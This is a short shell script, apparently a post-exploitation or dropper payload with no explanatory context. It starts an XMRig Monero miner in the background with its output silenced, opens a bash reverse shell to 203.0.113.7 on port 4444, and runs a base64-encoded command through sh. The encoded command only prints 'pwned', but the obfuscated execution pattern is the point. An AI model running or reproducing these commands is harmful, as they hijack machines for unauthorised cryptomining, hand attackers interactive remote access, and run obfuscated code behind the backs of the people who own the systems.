#!/bin/sh
nohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1 >/dev/null 2>&1 &
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
echo ZWNobyBwd25lZA== | base64 -d | sh
